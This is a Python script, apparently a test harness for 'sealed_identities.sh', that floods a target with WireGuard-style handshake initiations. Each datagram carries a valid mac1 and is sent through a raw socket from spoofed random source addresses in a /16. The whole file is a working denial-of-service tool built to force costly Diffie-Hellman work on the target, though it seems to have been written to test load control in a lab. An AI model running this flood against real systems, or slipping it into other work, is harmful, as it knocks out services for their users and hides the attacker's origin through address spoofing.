#!/usr/bin/python3
"""A handshake flood for sealed_identities.sh: initiations to TARGET:4789 with
valid mac1 (the target's public key is public) and random contents, from
spoofed random source addresses in SPOOF_NET (a /16), through a raw socket, as
fast as it can for SECONDS (at most COUNT datagrams). Each one passes the
target's cheap check and, unless load control stops it, costs it
Diffie-Hellman. Prints how many it sent and the rate.

Arguments (environment): TARGET TARGET_KEY (base64) SPOOF_NET (e.g. 10.201)
SECONDS COUNT.
"""
import base64
import hashlib
import os
import socket
import struct
import time

E = os.environ
target = E["TARGET"]
public = base64.b64decode(E["TARGET_KEY"])
mac1_key = hashlib.blake2b(b"mac1----" + public, digest_size=32).digest()

# A few dozen initiations (148 bytes): version 2, type 1, a random sender
# index, random handshake bytes, mac1 over all that, mac2 zero.
payloads = []
for _ in range(64):
    body = bytes([2, 1, 0, 0]) + os.urandom(4 + 32 + 48 + 28)
    mac1 = hashlib.blake2b(body, digest_size=16, key=mac1_key).digest()
    payloads.append(body + mac1 + bytes(16))

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dst = socket.inet_aton(target)
net = [int(x) for x in E["SPOOF_NET"].split(".")]
udp_len = 8 + 148
ip_len = 20 + udp_len
# One IP + UDP header per source (the kernel fills the IP checksum; UDP's is 0).
packets = []
for i in range(4096):
    src = bytes([net[0], net[1], (i >> 8) & 0xFF, i & 0xFF or 1])
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, ip_len, 0, 0, 64, 17, 0, src, dst)
    udp = struct.pack("!HHHH", 10000 + i, 4789, udp_len, 0)
    packets.append(ip + udp + payloads[i % len(payloads)])

deadline = time.monotonic() + float(E["SECONDS"])
limit = int(E["COUNT"])
sent = 0
start = time.monotonic()
while sent < limit:
    for p in packets[:256]:
        try:
            s.sendto(p, (target, 0))
        except OSError:  # ENOBUFS: the queue is full; go on
            pass
    sent += 256
    packets = packets[256:] + packets[:256]
    if time.monotonic() >= deadline:
        break
elapsed = time.monotonic() - start
print("flood: sent %d initiations in %.1f s (%d/s) from %d spoofed sources"
      % (sent, elapsed, sent / elapsed, len(packets)))
